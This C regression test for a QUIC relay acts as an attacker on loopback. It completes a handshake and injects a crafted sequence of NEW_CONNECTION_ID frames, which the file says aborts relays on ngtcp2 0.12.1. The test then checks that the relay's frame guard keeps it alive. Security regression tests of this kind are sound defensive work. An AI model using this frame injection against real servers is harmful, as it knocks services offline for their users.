/*
 * test_relay_attack_ncid.c - a stranger that completes the QUIC handshake
 * (no hello, no admission) and sends crafted NEW_CONNECTION_ID frames, to
 * check docs/NGTCP2-ASSERTS.md's one reachable abort against the ngtcp2
 * library the relay actually runs:
 *
 *   NEW_CONNECTION_ID seq=100 retire_prior_to=100   (raises retire_prior_to)
 *   NEW_CONNECTION_ID seq=50  retire_prior_to=0     (retired at once)
 *   NEW_CONNECTION_ID seq=50  retire_prior_to=0     (the same, again)
 *
 * In ngtcp2 0.12.1 the third frame reaches ngtcp2_unreachable() in
 * ngtcp2_conn_track_retired_dcid_seq (upstream fix #1155, v1.4.0).
 *
 * The attacker is a bare ngtcp2 client on GnuTLS (it checks no certificate:
 * an attacker would not). Its frames ride in a 1-RTT packet the library
 * builds: the client queues a DATAGRAM filled with a marker, and its encrypt
 * callback replaces that frame (and whatever follows it in the packet) with
 * the crafted frames and PADDING before encrypting. Everything runs on
 * 127.0.0.1.
 *
 * Target: the relay survives (and a player is admitted afterwards); asserted.
 * Before lib/quic's frame guard (frame_guard.h) the relay died with SIGABRT
 * and "ngtcp2_conn.c:13523 ngtcp2_conn_track_retired_dcid_seq: Unreachable."
 * on Debian's libngtcp2 0.12.1.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <errno.h>
#include <gnutls/crypto.h>
#include <gnutls/gnutls.h>
#include <netinet/in.h>
#include <ngtcp2/ngtcp2.h>
#include <ngtcp2/ngtcp2_crypto.h>
#include <ngtcp2/ngtcp2_crypto_gnutls.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"

#define MS LP_NS_PER_MS
#define SEC LP_NS_PER_SEC
#define MARK_LEN 200
#define MARK_BYTE 0xa7

struct attacker {
	ngtcp2_crypto_conn_ref ref;
	ngtcp2_conn *q;
	gnutls_session_t tls;
	gnutls_certificate_credentials_t cred;
	int fd;
	struct sockaddr_in local, remote;
	bool handshake_done;
	bool armed;    /* the marker datagram is queued: rewrite it */
	bool injected; /* the crafted frames went out */
	uint8_t plain[2048];
};

static void rnd_bytes(uint8_t *p, size_t n)
{
	assert_int_equal(gnutls_rnd(GNUTLS_RND_RANDOM, p, n), 0);
}

static ngtcp2_conn *get_conn(ngtcp2_crypto_conn_ref *ref)
{
	return ((struct attacker *)ref->user_data)->q;
}

static void cb_rand(uint8_t *dest, size_t len, const ngtcp2_rand_ctx *ctx)
{
	(void)ctx;
	rnd_bytes(dest, len);
}

static int cb_new_cid(ngtcp2_conn *q, ngtcp2_cid *cid, uint8_t *token, size_t cidlen, void *user)
{
	(void)q;
	(void)user;
	rnd_bytes(cid->data, cidlen);
	cid->datalen = cidlen;
	rnd_bytes(token, NGTCP2_STATELESS_RESET_TOKENLEN);
	return 0;
}

static int cb_handshake_completed(ngtcp2_conn *q, void *user)
{
	struct attacker *a = user;

	(void)q;
	a->handshake_done = true;
	return 0;
}

static size_t put_varint(uint8_t *p, uint64_t v)
{
	if (v < 64) {
		p[0] = (uint8_t)v;
		return 1;
	}
	assert_true(v < 16384);
	p[0] = (uint8_t)(0x40 | (v >> 8));
	p[1] = (uint8_t)v;
	return 2;
}

static size_t put_ncid(uint8_t *p, uint64_t seq, uint64_t retire_prior_to, const uint8_t cid[8],
                       const uint8_t token[16])
{
	size_t n = 0;

	p[n++] = 0x18; /* NEW_CONNECTION_ID */
	n += put_varint(p + n, seq);
	n += put_varint(p + n, retire_prior_to);
	p[n++] = 8;
	memcpy(p + n, cid, 8);
	n += 8;
	memcpy(p + n, token, 16);
	return n + 16;
}

/* Where the marker DATAGRAM frame starts in plaintext, or SIZE_MAX. */
static size_t find_marker_frame(const uint8_t *p, size_t len)
{
	for (size_t i = 3; i + MARK_LEN <= len; i++) {
		bool all = true;

		for (size_t k = 0; k < MARK_LEN && all; k++)
			all = p[i + k] == MARK_BYTE;
		if (!all)
			continue;
		if (p[i - 1] == 0x30) /* DATAGRAM without length */
			return i - 1;
		if (p[i - 3] == 0x31) /* DATAGRAM, 2-byte length */
			return i - 3;
	}
	return SIZE_MAX;
}

static int cb_encrypt(uint8_t *dest, const ngtcp2_crypto_aead *aead,
                      const ngtcp2_crypto_aead_ctx *aead_ctx, const uint8_t *plaintext,
                      size_t plaintextlen, const uint8_t *nonce, size_t noncelen,
                      const uint8_t *aad, size_t aadlen)
{
	static struct attacker *self; /* one attacker per process */
	struct attacker *a;
	size_t at, n;
	uint8_t cid_a[8], cid_b[8], tok_a[16], tok_b[16];

	if (aead == NULL) { /* registration call from the test, see below */
		self = (struct attacker *)(uintptr_t)plaintext;
		return 0;
	}
	a = self;
	if (a == NULL || !a->armed || a->injected || plaintextlen > sizeof(a->plain))
		return ngtcp2_crypto_encrypt_cb(dest, aead, aead_ctx, plaintext, plaintextlen,
		                                nonce, noncelen, aad, aadlen);
	at = find_marker_frame(plaintext, plaintextlen);
	if (at == SIZE_MAX)
		return ngtcp2_crypto_encrypt_cb(dest, aead, aead_ctx, plaintext, plaintextlen,
		                                nonce, noncelen, aad, aadlen);
	memcpy(a->plain, plaintext, plaintextlen);
	rnd_bytes(cid_a, sizeof(cid_a));
	rnd_bytes(cid_b, sizeof(cid_b));
	rnd_bytes(tok_a, sizeof(tok_a));
	rnd_bytes(tok_b, sizeof(tok_b));
	n = at;
	n += put_ncid(a->plain + n, 100, 100, cid_a, tok_a);
	n += put_ncid(a->plain + n, 50, 0, cid_b, tok_b);
	n += put_ncid(a->plain + n, 50, 0, cid_b, tok_b);
	assert_true(n <= plaintextlen);
	memset(a->plain + n, 0, plaintextlen - n); /* PADDING */
	a->injected = true;
	return ngtcp2_crypto_encrypt_cb(dest, aead, aead_ctx, a->plain, plaintextlen, nonce,
	                                noncelen, aad, aadlen);
}

static void attacker_init(struct attacker *a, const struct rp_relay *r)
{
	static const char prio[] = "NORMAL:-VERS-ALL:+VERS-TLS1.3:-CIPHER-ALL:+AES-128-GCM:"
	                           "%DISABLE_TLS13_COMPAT_MODE";
	static const gnutls_datum_t alpn = { (unsigned char *)(uintptr_t)LP_QUIC_ALPN,
		                             sizeof(LP_QUIC_ALPN) - 1 };
	ngtcp2_callbacks cb = {
		.client_initial = ngtcp2_crypto_client_initial_cb,
		.recv_crypto_data = ngtcp2_crypto_recv_crypto_data_cb,
		.encrypt = cb_encrypt,
		.decrypt = ngtcp2_crypto_decrypt_cb,
		.hp_mask = ngtcp2_crypto_hp_mask_cb,
		.recv_retry = ngtcp2_crypto_recv_retry_cb,
		.update_key = ngtcp2_crypto_update_key_cb,
		.delete_crypto_aead_ctx = ngtcp2_crypto_delete_crypto_aead_ctx_cb,
		.delete_crypto_cipher_ctx = ngtcp2_crypto_delete_crypto_cipher_ctx_cb,
		.get_path_challenge_data = ngtcp2_crypto_get_path_challenge_data_cb,
		.version_negotiation = ngtcp2_crypto_version_negotiation_cb,
		.rand = cb_rand,
		.get_new_connection_id = cb_new_cid,
		.handshake_completed = cb_handshake_completed,
	};
	ngtcp2_settings st;
	ngtcp2_transport_params tp;
	ngtcp2_path path;
	ngtcp2_cid dcid, scid;
	socklen_t len = sizeof(a->local);

	memset(a, 0, sizeof(*a));
	(void)cb_encrypt(NULL, NULL, NULL, (const uint8_t *)a, 0, NULL, 0, NULL, 0);
	a->fd = socket(AF_INET, SOCK_DGRAM | SOCK_NONBLOCK, 0);
	assert_true(a->fd >= 0);
	a->local.sin_family = AF_INET;
	a->local.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	assert_int_equal(bind(a->fd, (struct sockaddr *)&a->local, sizeof(a->local)), 0);
	assert_int_equal(getsockname(a->fd, (struct sockaddr *)&a->local, &len), 0);
	memcpy(&a->remote, &r->addr, sizeof(a->remote));

	assert_int_equal(gnutls_certificate_allocate_credentials(&a->cred), 0);
	assert_int_equal(gnutls_init(&a->tls, GNUTLS_CLIENT), 0);
	assert_int_equal(gnutls_priority_set_direct(a->tls, prio, NULL), 0);
	assert_int_equal(ngtcp2_crypto_gnutls_configure_client_session(a->tls), 0);
	a->ref.get_conn = get_conn;
	a->ref.user_data = a;
	gnutls_session_set_ptr(a->tls, &a->ref);
	assert_int_equal(gnutls_credentials_set(a->tls, GNUTLS_CRD_CERTIFICATE, a->cred), 0);
	assert_int_equal(gnutls_alpn_set_protocols(a->tls, &alpn, 1, GNUTLS_ALPN_MANDATORY), 0);

	dcid.datalen = 16;
	rnd_bytes(dcid.data, dcid.datalen);
	scid.datalen = 8;
	rnd_bytes(scid.data, scid.datalen);
	ngtcp2_settings_default(&st);
	st.initial_ts = lp_now_ns();
	ngtcp2_transport_params_default(&tp);
	tp.initial_max_streams_bidi = 1;
	tp.initial_max_data = 1 << 20;
	tp.initial_max_stream_data_bidi_local = 1 << 20;
	tp.max_datagram_frame_size = 65535;
	path.local.addr = (ngtcp2_sockaddr *)&a->local;
	path.local.addrlen = sizeof(a->local);
	path.remote.addr = (ngtcp2_sockaddr *)&a->remote;
	path.remote.addrlen = sizeof(a->remote);
	assert_int_equal(ngtcp2_conn_client_new(&a->q, &dcid, &scid, &path, NGTCP2_PROTO_VER_V1,
	                                        &cb, &st, &tp, NULL, a),
	                 0);
	ngtcp2_conn_set_tls_native_handle(a->q, a->tls);
}

static void attacker_free(struct attacker *a)
{
	ngtcp2_conn_del(a->q);
	gnutls_deinit(a->tls);
	gnutls_certificate_free_credentials(a->cred);
	close(a->fd);
	(void)cb_encrypt(NULL, NULL, NULL, NULL, 0, NULL, 0, NULL, 0);
}

/* Writes everything due, reads what arrived, runs timers; false once the
 * connection failed. */
static bool attacker_step(struct attacker *a)
{
	uint8_t buf[1500];
	ngtcp2_path_storage ps;
	ngtcp2_pkt_info pi = { 0 };
	uint64_t now = lp_now_ns();
	struct pollfd pfd = { .fd = a->fd, .events = POLLIN };

	for (int i = 0; i < 16; i++) {
		ngtcp2_ssize n;

		ngtcp2_path_storage_zero(&ps);
		n = ngtcp2_conn_write_pkt(a->q, &ps.path, &pi, buf, sizeof(buf), now);
		if (n < 0)
			return false;
		if (n == 0)
			break;
		(void)!sendto(a->fd, buf, (size_t)n, 0, (struct sockaddr *)&a->remote,
		              sizeof(a->remote));
	}
	ngtcp2_conn_update_pkt_tx_time(a->q, now);
	(void)poll(&pfd, 1, 5);
	for (;;) {
		ngtcp2_path path = { .local = { (ngtcp2_sockaddr *)&a->local, sizeof(a->local) },
			             .remote = { (ngtcp2_sockaddr *)&a->remote,
			                         sizeof(a->remote) } };
		ssize_t n = recv(a->fd, buf, sizeof(buf), 0);

		if (n <= 0)
			break;
		if (ngtcp2_conn_read_pkt(a->q, &path, &pi, buf, (size_t)n, lp_now_ns()) < 0)
			return false;
	}
	if (ngtcp2_conn_get_expiry(a->q) <= lp_now_ns() &&
	    ngtcp2_conn_handle_expiry(a->q, lp_now_ns()) != 0)
		return false;
	return true;
}

static void test_ncid_retire(void **state)
{
	struct rp_relay relay;
	struct attacker a;
	uint8_t mark[MARK_LEN];
	ngtcp2_vec v = { mark, sizeof(mark) };
	uint64_t t0;
	bool alive, admitted = false;
	int status = -1;

	(void)state;
	assert_int_equal(rp_relay_start(&relay, NULL), 0);
	attacker_init(&a, &relay);
	t0 = lp_now_ns();
	while (!a.handshake_done && lp_now_ns() - t0 < 10 * SEC)
		assert_true(attacker_step(&a));
	assert_true(a.handshake_done);
	/* The relay bounds what a client may have in flight (and what ngtcp2
	 * buffers out of order) on the control stream. */
	{
		const ngtcp2_transport_params *rp = ngtcp2_conn_get_remote_transport_params(a.q);

		assert_non_null(rp);
		print_message("relay's windows: stream %llu, connection %llu bytes\n",
		              (unsigned long long)rp->initial_max_stream_data_bidi_remote,
		              (unsigned long long)rp->initial_max_data);
		assert_true(rp->initial_max_stream_data_bidi_remote <= 64 * 1024);
		assert_true(rp->initial_max_data <= 128 * 1024);
	}

	/* The marker datagram; the encrypt callback swaps in the frames. */
	memset(mark, MARK_BYTE, sizeof(mark));
	a.armed = true;
	for (int i = 0; i < 50 && !a.injected; i++) {
		uint8_t buf[1500];
		ngtcp2_path_storage ps;
		int accepted = 0;
		ngtcp2_ssize n;

		ngtcp2_path_storage_zero(&ps);
		n = ngtcp2_conn_writev_datagram(a.q, &ps.path, NULL, buf, sizeof(buf), &accepted,
		                                NGTCP2_WRITE_DATAGRAM_FLAG_NONE, 1, &v, 1,
		                                lp_now_ns());
		if (n > 0)
			(void)!sendto(a.fd, buf, (size_t)n, 0, (struct sockaddr *)&a.remote,
			              sizeof(a.remote));
		(void)attacker_step(&a);
	}
	assert_true(a.injected);
	/* Give the relay a moment, then look at it. */
	t0 = lp_now_ns();
	while (lp_now_ns() - t0 < 500 * MS)
		(void)attacker_step(&a);
	alive = waitpid(relay.pid, &status, WNOHANG) == 0;
	if (alive) {
		struct rp_world w;
		struct rp_peer *c;

		assert_int_equal(rp_world_init(&w, &relay), 0);
		c = rp_session_new(&w, "C", LP_ROLE_CLIENT, "AFTER", "02:00:00:00:7c:01", NULL);
		assert_non_null(c);
		admitted = rp_pump_admitted(&w, 10 * SEC, &c, 1);
		rp_world_free(&w);
	} else {
		relay.pid = -1; /* reaped here */
	}
	attack_report("ncid_retire", alive && admitted, "relay survives, players still admitted",
	              "relay %s",
	              alive ? (admitted ? "alive, player admitted" : "alive, player NOT admitted")
	              : WIFSIGNALED(status) ? strsignal(WTERMSIG(status))
	                                    : "exited");
	if (!alive) {
		char line[512];
		FILE *f = fopen(relay.log_path, "r");

		while (f != NULL && fgets(line, sizeof(line), f) != NULL)
			if (strstr(line, "Unreachable") != NULL ||
			    strstr(line, "Assertion") != NULL)
				printf("  relay log: %s", line);
		if (f != NULL)
			fclose(f);
	}
	attacker_free(&a);
	if (alive)
		assert_int_equal(rp_relay_stop(&relay), 0);
	else
		(void)rp_relay_stop(&relay);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_ncid_retire),
	};

	return cmocka_run_group_tests_name("relay_attack_ncid", tests, NULL, NULL);
}
